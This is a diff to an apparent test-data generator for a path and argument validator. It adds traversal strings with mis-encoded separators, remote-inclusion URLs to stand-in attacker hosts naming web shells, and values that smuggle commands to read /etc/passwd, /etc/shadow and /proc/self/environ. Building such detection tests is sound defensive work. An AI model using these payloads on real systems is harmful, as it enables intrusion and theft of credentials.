@@ -267,6 +267,22 @@ def attacks(rng: random.Random) -> Iterator[tuple[str, str, str, str]]:
         yield shaped(rng, "special", special(rng, rng.choice(ALL_FILES)))
     for _ in range(60):
         yield shaped(rng, "log_path", logPath(rng))
+    # a separator encoded wrongly (%25%5c for %255c): the list's climb all the same
+    for _ in range(30):
+        junk = rng.choice(["%25%5c", "%25%2f", "%25%5C", "%%5c", "%25%255c"])
+        lead = rng.choice(["", "/", junk])
+        yield shaped(rng, "stray_percent", lead + (".." + junk) * rng.randint(3, 12) + rng.choice(["", "boot.ini", "etc" + junk + "passwd", "windows" + junk + "win.ini"]))
+    # a remote script kept as text, its URL cut where the server's suffix goes
+    for _ in range(30):
+        host = rng.choice(["evil.example", "203.0.113.7", "attacker.example.net:8000", "pastebin.example/raw"])
+        tail = rng.choice(["shell.txt?", "c99.txt?", "r57.txt%00", "cmd.inc?", "x.php%00", "rev.sh%00", "shell.txt%3f"])
+        tool, arg = rng.choice(FILE_ARGS)
+        yield "remote_inclusion", tool, arg, rng.choice(["http://", "https://", "ftp://"]) + host + "/" + tail
+    # the files every list ends in, after a command or a quote in a value
+    for _ in range(30):
+        f = rng.choice(["/etc/passwd", "/etc/shadow", "/proc/self/environ", "c:\\windows\\win.ini", "C:/boot.ini", "/etc/master.passwd"])
+        tool, arg = rng.choice(FILE_ARGS)
+        yield "mid_value", tool, arg, rng.choice(["\\'/bin/cat {f}\\'", "x' {f}", "|type {f}", "a.txt;more {f}", "`{f}`", "<{f}"]).format(f=f)
     for _ in range(50):
         name = rng.choice(APP_FILES)
         yield shaped(rng, "app_climb", "../" * rng.randint(3, 7) + name)
@@ -329,6 +345,12 @@ def benign(rng: random.Random) -> Iterator[tuple[str, str, str, str]]:
         f = rng.choice([".github/workflows/ci.yml", ".vscode/settings.json", ".gitignore", ".editorconfig", ".env.example",
                         ".eslintrc.json", ".prettierrc", ".dockerignore", ".htaccess", ".nvmrc", ".husky/pre-commit", ".devcontainer/devcontainer.json"])
         yield "home_project", tool, arg, home + (f.replace("/", "\\") if home.startswith("C:") else f)
+    # remote files and names that mention system files
+    for v in ["https://example.com/files/readme.txt", "https://raw.githubusercontent.com/org/repo/main/install.sh",
+              "https://example.com/index.php?", "https://example.com/page.php?id=3", "ftp://ftp.example.org/pub/README.txt",
+              "notes about /etc/passwd.md", "etc-passwd-format.md", "docs/etc/hosts.md", "100%/..", "progress 50%/100%"]:
+        tool, arg = rng.choice(tools)
+        yield "mention", tool, arg, v
     # git ranges and version ranges
     for r in ["main..feature/search", "HEAD~5..HEAD", "v2.1.0...v2.2.0", "origin/develop..HEAD", "1a2b3c4..5d6e7f8",
               "HEAD@{yesterday}..HEAD", "main...HEAD -- docs/", "release/1.x..release/2.x", "tags/v1..tags/v2", "@{push}..",
